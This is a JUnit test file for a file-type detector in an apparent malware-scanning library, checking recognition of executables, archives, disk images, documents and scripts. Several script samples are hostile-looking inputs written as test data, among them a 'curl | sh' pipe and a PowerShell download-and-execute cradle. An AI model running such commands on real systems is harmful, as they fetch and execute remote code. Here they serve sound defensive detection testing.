package dev.mamori.core.scan.content;

import org.junit.jupiter.api.Test;

import java.util.Arrays;

import static dev.mamori.core.scan.content.Samples.ascii;
import static dev.mamori.core.scan.content.Samples.withMagic;
import static org.assertj.core.api.Assertions.assertThat;

class FileTypeDetectorTest {

    private static FileType detect(byte[] b) {
        return FileTypeDetector.detect(b);
    }

    @Test
    void executables() {
        assertThat(detect(Samples.pe())).isEqualTo(FileType.PE);
        assertThat(detect(withMagic(64, 'M', 'Z'))).isEqualTo(FileType.MSDOS);
        assertThat(detect(Samples.elf())).isEqualTo(FileType.ELF);
        assertThat(detect(withMagic(64, 0xCF, 0xFA, 0xED, 0xFE))).isEqualTo(FileType.MACH_O);
        assertThat(detect(withMagic(64, 0xFE, 0xED, 0xFA, 0xCE))).isEqualTo(FileType.MACH_O);
        assertThat(detect(withMagic(64, 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2))).isEqualTo(FileType.MACH_O_FAT);
        assertThat(detect(withMagic(64, 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 65))).isEqualTo(FileType.JAVA_CLASS);
        assertThat(detect(Samples.lnk())).isEqualTo(FileType.LNK);
    }

    @Test
    void ole2IsAnInstallerOnlyWithTheInstallerClsid() {
        assertThat(detect(Samples.ole2(true))).isEqualTo(FileType.MSI);
        assertThat(detect(Samples.ole2(false))).isEqualTo(FileType.OLE2);
    }

    @Test
    void peWithAnAppendedZipIsAnExecutable() throws Exception {
        byte[] sfx = Samples.concat(Samples.pe(), Archives.zip(Archives.entries("a.txt", ascii("hello"))));
        assertThat(detect(sfx)).isEqualTo(FileType.PE);
    }

    @Test
    void zipFlavoursByMemberNames() throws Exception {
        byte[] docx = Archives.zip(Archives.entries("[Content_Types].xml", ascii("<Types/>"),
                "_rels/.rels", ascii("<Relationships/>"), "word/document.xml", ascii("<w:document/>")));
        byte[] xlsx = Archives.zip(Archives.entries("[Content_Types].xml", ascii("<Types/>"), "xl/workbook.xml", ascii("<x/>")));
        byte[] pptx = Archives.zip(Archives.entries("[Content_Types].xml", ascii("<Types/>"), "ppt/presentation.xml", ascii("<p/>")));
        byte[] jar = Archives.zip(Archives.entries("META-INF/MANIFEST.MF", ascii("Manifest-Version: 1.0\n")));
        byte[] apk = Archives.zip(Archives.entries("AndroidManifest.xml", new byte[10], "classes.dex", new byte[10]));
        byte[] odt = Archives.zip(Archives.entries("mimetype", ascii("application/vnd.oasis.opendocument.text")));
        assertThat(detect(docx)).isEqualTo(FileType.DOCX);
        assertThat(detect(xlsx)).isEqualTo(FileType.XLSX);
        assertThat(detect(pptx)).isEqualTo(FileType.PPTX);
        assertThat(detect(jar)).isEqualTo(FileType.JAR);
        assertThat(detect(apk)).isEqualTo(FileType.APK);
        assertThat(detect(odt)).isEqualTo(FileType.ODF);
        assertThat(detect(Archives.zip(Archives.entries("a.txt", ascii("x"))))).isEqualTo(FileType.ZIP);
    }

    @Test
    void compressedStreamsAndArchives() throws Exception {
        byte[] content = ascii("some content to compress, some content to compress");
        assertThat(detect(Archives.compress("gz", content))).isEqualTo(FileType.GZIP);
        assertThat(detect(Archives.compress("bzip2", content))).isEqualTo(FileType.BZIP2);
        assertThat(detect(Archives.compress("xz", content))).isEqualTo(FileType.XZ);
        assertThat(detect(Archives.compress("lzma", content))).isEqualTo(FileType.LZMA);
        assertThat(detect(Archives.compress("lz4-framed", content))).isEqualTo(FileType.LZ4);
        assertThat(detect(Archives.sevenZip(Archives.entries("a.txt", content)))).isEqualTo(FileType.SEVEN_ZIP);
        assertThat(detect(Archives.tar(Archives.entries("a.txt", content)))).isEqualTo(FileType.TAR);
        assertThat(detect(Archives.ar(Archives.entries("a.txt", content)))).isEqualTo(FileType.AR);
        assertThat(detect(Archives.cpio(Archives.entries("a.txt", content)))).isEqualTo(FileType.CPIO);
        assertThat(detect(withMagic(64, 0x1F, 0x9D, 0x90))).isEqualTo(FileType.COMPRESS_Z);
        assertThat(detect(withMagic(64, 0x28, 0xB5, 0x2F, 0xFD))).isEqualTo(FileType.ZSTD);
        assertThat(detect(Samples.concat(ascii("Rar!\u001A\u0007\u0001\u0000"), new byte[32]))).isEqualTo(FileType.RAR);
        assertThat(detect(Samples.concat(ascii("MSCF"), new byte[60]))).isEqualTo(FileType.CAB);
        assertThat(detect(withMagic(64, 0x60, 0xEA, 0x20, 0))).isEqualTo(FileType.ARJ);
    }

    @Test
    void oldTarWithoutMagicIsRecognisedByItsChecksum() throws Exception {
        byte[] tar = Archives.tar(Archives.entries("a.txt", ascii("hello")));
        Arrays.fill(tar, 257, 265, (byte) 0); // erase "ustar" and the version: a v7 header
        long sum = 0;
        for (int i = 0; i < 512; i++) {
            sum += i >= 148 && i < 156 ? ' ' : tar[i] & 0xFF;
        }
        byte[] checksum = String.format("%06o\0 ", sum).getBytes();
        System.arraycopy(checksum, 0, tar, 148, 8);
        assertThat(detect(tar)).isEqualTo(FileType.TAR);
        tar[148] = '9'; // no longer octal: not a tar header
        assertThat(detect(tar)).isNotEqualTo(FileType.TAR);
    }

    @Test
    void diskImages() {
        assertThat(detect(Samples.at(0x9000, 0x8001, "CD001"))).isEqualTo(FileType.ISO9660);
        assertThat(detect(Samples.at(0x9800, 0x9001, "CD001"))).isEqualTo(FileType.ISO9660);
        assertThat(detect(Samples.at(0x9000, 0x8001, "BEA01"))).isEqualTo(FileType.UDF);
        assertThat(detect(Samples.at(1024, 0, "vhdxfile"))).isEqualTo(FileType.VHDX);
        assertThat(detect(Samples.at(4096, 4096 - 512, "conectix"))).isEqualTo(FileType.VHD);
        byte[] fat = Samples.at(1024, 0x36, "FAT12   ");
        fat[510] = 0x55;
        fat[511] = (byte) 0xAA;
        assertThat(detect(fat)).isEqualTo(FileType.DISK_IMAGE);
    }

    @Test
    void documentsAndImages() {
        assertThat(detect(ascii("%PDF-1.7\n%âãÏÓ\n1 0 obj"))).isEqualTo(FileType.PDF);
        assertThat(detect(ascii("garbage before the header %PDF-1.4\n"))).isEqualTo(FileType.PDF);
        assertThat(detect(ascii("{\\rtf1\\ansi hello}"))).isEqualTo(FileType.RTF);
        assertThat(detect(withMagic(32, 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A))).isEqualTo(FileType.PNG);
        assertThat(detect(withMagic(32, 0xFF, 0xD8, 0xFF, 0xE0))).isEqualTo(FileType.JPEG);
        assertThat(detect(ascii("GIF89a\u0001\u0000\u0001\u0000"))).isEqualTo(FileType.GIF);
    }

    @Test
    void markupAndScripts() {
        assertThat(detect(ascii("<!DOCTYPE html>\n<html><body>hi</body></html>"))).isEqualTo(FileType.HTML);
        assertThat(detect(ascii("  <html>\n<head><title>x</title>"))).isEqualTo(FileType.HTML);
        assertThat(detect(ascii("<html><head><HTA:APPLICATION ID=\"x\"></head>"))).isEqualTo(FileType.HTA);
        assertThat(detect(ascii("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>")))
                .isEqualTo(FileType.SVG);
        assertThat(detect(ascii("#!/bin/sh\ncurl http://x | sh\n"))).isEqualTo(FileType.SHELL_SCRIPT);
        assertThat(detect(ascii("#!/usr/bin/env node\nrequire('x');\n"))).isEqualTo(FileType.JAVASCRIPT);
        assertThat(detect(ascii("@echo off\r\nstart calc.exe\r\n"))).isEqualTo(FileType.BATCH);
        assertThat(detect(ascii("rem setup\r\nset X=1\r\ncall :run\r\ngoto end\r\n:run\r\n%~dp0\\x.exe\r\n")))
                .isEqualTo(FileType.BATCH);
        assertThat(detect(ascii("$u = 'http://example.invalid/p'\nIEX (New-Object Net.WebClient).DownloadString($u)\n")))
                .isEqualTo(FileType.POWERSHELL);
        assertThat(detect(ascii("Dim shell\r\nSet shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"calc\"\r\n")))
                .isEqualTo(FileType.VBSCRIPT);
        assertThat(detect(ascii("var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n")))
                .isEqualTo(FileType.JAVASCRIPT);
        assertThat(detect(ascii("(function(){var a=1;})();"))).isEqualTo(FileType.JAVASCRIPT);
    }

    @Test
    void powerShellInUtf16WithBom() {
        String ps = "$c = 'x'\r\nInvoke-Expression $c\r\nStart-Process notepad\r\n";
        byte[] utf16 = Samples.concat(new byte[]{(byte) 0xFF, (byte) 0xFE}, ps.getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
        assertThat(detect(utf16)).isEqualTo(FileType.POWERSHELL);
    }

    @Test
    void ordinaryProseIsTextNotScript() {
        // false-positive guards: prose that mentions the keywords the script rules look for
        assertThat(detect(ascii("Hello,\n\nplease set up the meeting and call me. Let me know if the function works.\n")))
                .isEqualTo(FileType.TEXT);
        assertThat(detect(ascii("To fix it, run Get-Process in a console.\nRegards\n"))).isEqualTo(FileType.TEXT);
        assertThat(detect(ascii("Remember: echo the notes back to me, goto the office at 9.\n"))).isEqualTo(FileType.TEXT);
        assertThat(detect(ascii("Dim sum on Friday?\nSee you\n"))).isEqualTo(FileType.TEXT);
        assertThat(detect("Le café coûte 2 € — très bon.\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
                .isEqualTo(FileType.TEXT);
    }

    @Test
    void binaryEmptyAndNoise() {
        assertThat(detect(new byte[0])).isEqualTo(FileType.EMPTY);
        assertThat(detect(new byte[]{1, 2, 3, 0, 5, 6, 7})).isEqualTo(FileType.BINARY);
        assertThat(detect(new byte[]{'M'})).isEqualTo(FileType.TEXT);
        assertThat(detect(new byte[]{0x7F, 'E', 'L'})).isEqualTo(FileType.BINARY);
    }
}
